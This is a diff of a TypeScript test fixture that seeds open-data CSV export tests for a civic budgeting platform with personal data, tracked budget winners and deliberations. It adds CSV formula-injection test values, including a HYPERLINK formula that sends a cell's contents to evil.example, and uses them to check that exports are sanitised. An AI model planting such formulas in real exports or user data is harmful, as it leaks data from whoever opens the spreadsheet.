@@ -1,13 +1,16 @@
+import { Role } from '@quorum/access';
 import { mkdtempSync, rmSync } from 'node:fs';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
-import { Role } from '@quorum/identity';
-import { CAST, CLOSE, createBudget, PUBLISH, waitFor } from './budgets';
-import { createConsultation } from './consultation-factory';
-import { createUser, createUsers, FACTORY_PASSWORD, insertCensusCodes, TestUser } from './factories';
+import { CAST, CLOSE, createBudget, PUBLISH } from './budgets.factory';
+import { createConsultation } from './consultations.factory';
+import { createUser, createUsers, FACTORY_PASSWORD, insertCensusCodes, TestUser } from './users.factory';
 import { CAPITOLE, seedCommune } from './reports.factory';
 import { startTestApi, TestApi } from './test-api';
 import { startTestWorker, TestWorker } from './test-worker';
+import { deliberationInput, LINK_DELIBERATION, UPDATE_TRACKED_ITEM, ADD_TRACKED_ITEM_UPDATE } from './tracking.factory';
+import { waitFor } from './wait-for';
+import { JobName, JobQueue } from '@quorum/queue';
 
 /** Everything open data must never publish, as the bytes a leak would contain. */
 export interface PersonalData {
@@ -34,6 +37,8 @@ export interface OpenDataSeed {
   /** Hidden, withdrawn and draft: never exported. */
   unpublishedProposalIds: string[];
   reportIds: string[];
+  /** The published budget's winners, tracked by the worker; the first with news and a deliberation. */
+  trackedItemIds: string[];
   personal: PersonalData;
 }
 
@@ -46,6 +51,10 @@ const BUDGET_RESULT = `query($id: ID!) { budget(id: $id) { status } }`;
  * (the tally runs there). The budget's result is published, which enqueues an
  * export (the test's worker runs it).
  */
+/** Texts a spreadsheet would run as formulas if a CSV gave them as they are. */
+export const FORMULA_TITLE = '=HYPERLINK("https://evil.example/?d="&A1,"Voir")';
+export const FORMULA_BODY = '@SUM(1+1)\tet du texte';
+
 export async function seedOpenData(api: TestApi): Promise<OpenDataSeed> {
   const { districts } = await seedCommune(api);
   const staff = await createUser(api, { role: Role.STAFF, displayName: 'Agent Secretstaff' });
@@ -65,8 +74,9 @@ export async function seedOpenData(api: TestApi): Promise<OpenDataSeed> {
       [
         consultation.id,
         author.id,
-        `Piste cyclable "rue ${i}", quai; virgule`,
-        `Ligne 1\nLigne 2 avec « guillemets » et "quotes"`,
+        // The third one is hostile to spreadsheets (CSV formula injection, issue #14.4).
+        i === 2 ? FORMULA_TITLE : `Piste cyclable "rue ${i}", quai; virgule`,
+        i === 2 ? FORMULA_BODY : `Ligne 1\nLigne 2 avec « guillemets » et "quotes"`,
         categoryId,
         districts[i].id,
         i === 2 ? null : CAPITOLE.latitude + i / 1000,
@@ -129,6 +139,7 @@ export async function seedOpenData(api: TestApi): Promise<OpenDataSeed> {
   await api.db.query(`UPDATE issue_reports SET status = 'ACKNOWLEDGED' WHERE id = $1`, [reports[0].id]);
 
   const { budgetId, projectIds, receipts } = await publishedBudget(api, staff, residents);
+  const trackedItemIds = await trackWinners(api, staff, budgetId);
   const participations: { voter_key: string; ballot_id: string }[] = await api.db.query(
     `SELECT voter_key, ballot_id FROM budget_participations WHERE budget_id = $1`,
     [budgetId],
@@ -143,6 +154,7 @@ export async function seedOpenData(api: TestApi): Promise<OpenDataSeed> {
     visibleProposalIds: proposalIds,
     unpublishedProposalIds: [hidden.id, withdrawn.id, draft.id],
     reportIds: reports.map((r) => r.id),
+    trackedItemIds,
     personal: {
       emails: [staff, ...residents].map((u) => u.email),
       names: [...names, 'Agent Secretstaff'],
@@ -184,6 +196,36 @@ async function publishedBudget(
   return { budgetId, projectIds, receipts };
 }
 
+/** Waits for the worker to track the winners, then moves the first along: works started, news, a deliberation. */
+async function trackWinners(api: TestApi, staff: TestUser, budgetId: string): Promise<string[]> {
+  const ids = await waitFor(
+    async () => {
+      const rows: { id: string }[] = await api.db.query(
+        `SELECT id FROM tracked_items WHERE budget_id = $1 ORDER BY id`,
+        [budgetId],
+      );
+      return rows.length ? rows.map((r) => r.id) : undefined;
+    },
+    20_000,
+    'tracked winners',
+  );
+  const gql = api.gql.as(staff.token);
+  await gql.ok(UPDATE_TRACKED_ITEM, {
+    input: {
+      trackedItemId: ids[0],
+      status: 'IN_WORKS',
+      progressPercent: 30,
+      committedCents: 40_000_00,
+      department: 'Voirie',
+    },
+  });
+  await gql.ok(ADD_TRACKED_ITEM_UPDATE, {
+    input: { trackedItemId: ids[0], body: FORMULA_BODY, occurredOn: '2026-05-04' },
+  });
+  await gql.ok(LINK_DELIBERATION, { input: deliberationInput(ids[0], 'DEL-2026-031') });
+  return ids;
+}
+
 export interface OpenDataTestBed {
   api: TestApi;
   worker: TestWorker;
@@ -199,10 +241,24 @@ export async function startOpenDataTestBed(): Promise<OpenDataTestBed> {
   const api = await startTestApi({ OPEN_DATA_DIR: dir });
   const worker = await startTestWorker(api.config);
   const seed = await seedOpenData(api);
+  // The export that publishing enqueued may have run before the winners were tracked: one more, and wait for
+  // the zip of whichever export saw the deliberation.
+  await api.app
+    .get(JobQueue)
+    .enqueue(JobName.EXPORT_OPEN_DATA, { reason: 'request' }, { jobId: 'open-data-test-bed-tracking' });
   await waitFor(
-    async () => ((await api.db.query(`SELECT 1 FROM open_data_files WHERE format = 'zip'`)).length ? true : undefined),
+    async () =>
+      (
+        await api.db.query(
+          `SELECT 1 FROM open_data_files z
+             JOIN open_data_files d ON d.file_name = 'tracked-item-deliberations.csv' AND d.rows > 0
+            WHERE z.format = 'zip' AND z.created_at >= d.created_at`,
+        )
+      ).length
+        ? true
+        : undefined,
     60_000,
-    'export after the published tally',
+    'export after the published tally and the tracking',
   );
   return {
     api,
